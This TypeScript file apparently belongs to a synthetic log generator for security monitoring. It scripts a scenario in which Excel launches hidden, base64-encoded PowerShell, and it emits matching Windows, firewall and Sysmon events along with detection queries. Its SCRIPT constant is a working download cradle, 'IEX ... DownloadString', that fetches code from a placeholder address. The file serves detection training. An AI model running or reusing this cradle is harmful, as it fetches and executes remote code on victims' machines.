import type { Employee } from '../company';
import { sysmonSession } from '../day/sysmon-day';
import { subject } from '../logs/windows';
import type { Month } from '../month';
import { ATTACK, DOMAIN, FQDN } from '../office';
import { networkConnect, processCreate, processGuid, type SysmonProcess } from '../render/sysmon';
import type { ScenarioDef } from './types';

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/a.ps1')";
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
const LOGON_ID = '0x2a81f3c';

/**
 * Day 4, 14:22 on an accounting PC: EXCEL.EXE starts `powershell.exe -Enc` (4688), whose script block (4104) is a
 * download cradle; the firewall sees the C2 connection, and so does Sysmon (process create, network connect).
 */
export default {
  id: 'encoded-powershell',
  rules: ['cyber-suspicious-powershell'],
  days: (plan) => [plan.workDay(4)],
  present: (plan, cast) => [[cast.psUser, plan.workDay(4)]],
  play(scene, d, rng) {
    const { psUser } = scene.cast;
    const { windows, firewall } = scene.logs;
    const t = scene.at(d, 14, 22);
    const comp = `${psUser.host}.${FQDN}`;
    const enc = Buffer.from(SCRIPT, 'utf16le').toString('base64');
    windows.security(
      'workstations',
      t,
      comp,
      4688,
      [
        ...subject(psUser, LOGON_ID),
        ['NewProcessId', '0x1f4c'],
        ['NewProcessName', POWERSHELL],
        ['TokenElevationType', '%%1938'],
        ['ProcessId', '0x1a2c'],
        ['CommandLine', `powershell.exe -NoP -NonI -W Hidden -Enc ${enc}`],
        ['TargetUserSid', 'S-1-0-0'],
        ['TargetUserName', '-'],
        ['TargetDomainName', '-'],
        ['TargetLogonId', '0x0'],
        ['ParentProcessName', EXCEL],
        ['MandatoryLabel', 'S-1-16-8192'],
      ],
      'A new process has been created.',
      { version: 2, task: 13312, taskName: 'Process Creation' },
    );
    windows.event('workstations', {
      t: t + 800,
      id: 4104,
      provider: 'Microsoft-Windows-PowerShell',
      channel: 'Microsoft-Windows-PowerShell/Operational',
      computer: comp,
      level: 3,
      task: 2,
      taskName: 'Execute a Remote Command',
      version: 1,
      data: [
        ['MessageNumber', '1'],
        ['MessageTotal', '1'],
        ['ScriptBlockText', SCRIPT],
        ['ScriptBlockId', '{5b1f3a0e-7d8c-4e2f-9a1b-2c3d4e5f6a7b}'],
        ['Path', ''],
      ],
      message: 'Creating Scriptblock text (1 of 1):',
    });
    const c2 = { src: psUser.ip, dst: ATTACK.c2, port: 80, service: 'HTTP', sent: 420, received: 18_230 };
    firewall.forward(t + 1500, { ...c2, action: 'accept', user: psUser.account }, rng);
    sysmonAttack(scene.month, t, psUser, enc);
    const host = `host.name:${psUser.host}*`;
    const sysmon = 'event.provider:Microsoft-Windows-Sysmon';
    scene.record(
      {
        id: 'encoded-powershell',
        title: 'Encoded PowerShell download cradle started from Excel',
        who: psUser.account,
        what: 'EXCEL.EXE starts powershell.exe -Enc; the 4104 script block shows IEX DownloadString',
        monitoringPoint: 'Information gathering: suspicious PowerShell',
        useCase: '1 cyber attack',
        detections: [
          {
            description: '4688 powershell with -Enc',
            query: `event.code:4688 AND ${host} AND process.command_line:*enc*`,
            minCount: 1,
          },
          {
            description: '4104 script block with a download cradle',
            query: 'event.code:4104 AND powershell.file.script_block_text:*DownloadString*',
            minCount: 1,
          },
          {
            description: 'Sysmon: powershell.exe started by EXCEL.EXE',
            query:
              `${sysmon} AND event.code:1 AND ${host} AND ` +
              'process.parent.name:EXCEL.EXE AND process.name:powershell.exe',
            minCount: 1,
          },
          {
            description: 'Sysmon: powershell.exe connects to the C2 address',
            query: `${sysmon} AND event.code:3 AND process.name:powershell.exe AND destination.ip:${ATTACK.c2}`,
            minCount: 1,
          },
        ],
      },
      t,
      t + 1500,
    );
  },
} satisfies ScenarioDef;

/** The attack as Sysmon records it: EXCEL.EXE → powershell.exe (the PIDs of the 4688), then its C2 connection. */
function sysmonAttack(m: Month, t: number, p: Employee, enc: string): void {
  const rng = m.sysmonRng.fork('encoded-powershell');
  const comp = `${p.host}.${FQDN}`;
  const user = `${DOMAIN}\\${p.account}`;
  const machine = rng.hex(8);
  const session = sysmonSession(machine, LOGON_ID, `C:\\Users\\${p.account}\\Documents\\`, rng);
  const excel: SysmonProcess = {
    guid: processGuid(machine, rng),
    pid: 0x1a2c,
    image: EXCEL,
    commandLine: `"${EXCEL}" "C:\\Users\\${p.account}\\Downloads\\請求書_2026.xlsm"`,
    user,
  };
  const ps: SysmonProcess = {
    guid: processGuid(machine, rng),
    pid: 0x1f4c,
    image: POWERSHELL,
    commandLine: `powershell.exe -NoP -NonI -W Hidden -Enc ${enc}`,
    user,
  };
  m.logs.windows.sysmon(t, comp, 1, processCreate(t, ps, excel, session, rng));
  const local = { ip: p.ip, host: comp, port: rng.int(49700, 60000) };
  const c2 = { ip: ATTACK.c2, host: '-', port: 80, portName: 'http' };
  m.logs.windows.sysmon(t + 1400, comp, 3, networkConnect(t + 1400, ps, local, c2));
}
